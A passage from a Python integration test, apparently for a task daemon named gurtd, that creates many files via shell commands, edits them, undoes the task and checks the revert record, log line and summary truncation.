    made = gurtd.create(f"mkdir d && cd d && seq 1 {count} | xargs -n 300 sh -c 'for f; do "
                        "echo base > $f; done' _")
    assert gurtd.wait(made["id"], timeout=120)["state"] == "done", gurtd.log(made["id"])
    t1 = gurtd.run_done("cd d && for f in *; do echo one >> $f; done")["id"]
    gurtd.run_done("touch d/*")
    gurtd.api("POST", f"/api/tasks/{t1}/undo")
    record = eventually(lambda: (gurtd.task(t1).get("undoMerge") or {}).get("state") in
                        ("done", "failed") and gurtd.task(t1)["undoMerge"], 120, "the revert")
    print(f"undone task file {os.path.getsize(os.path.join(gurtd.home, 'tasks', t1 + '.json'))}"
          f" bytes, revert layer's task file "
          f"{os.path.getsize(os.path.join(gurtd.home, 'tasks', record['layer'] + '.json'))}")
    assert record["state"] == "done", record
    assert len(record["reverted"]) == G.MERGE_CONFLICTS_SHOWN and \
        record["moreReverted"] == count - G.MERGE_CONFLICTS_SHOWN, record.get("moreReverted")
    assert record["kept"] == [] and "moreKept" not in record
    assert gurtd.file("home", "d/700") == b"base\n"
    [line] = [e for e in gurtd.log(t1) if e["type"] == "undo"]
    assert line["moreReverted"] == count - G.MERGE_CONFLICTS_SHOWN
    assert line["text"].startswith("reverted in later copies: ") and \
        f" and {count - G.MERGE_CONFLICTS_SHOWN} more; kept whole: none" in line["text"]
    summary = gurtd.task(record["layer"])["summary"]
    assert summary.endswith(f" and {count - G.MERGE_CONFLICTS_SHOWN} more"), summary[-80:]
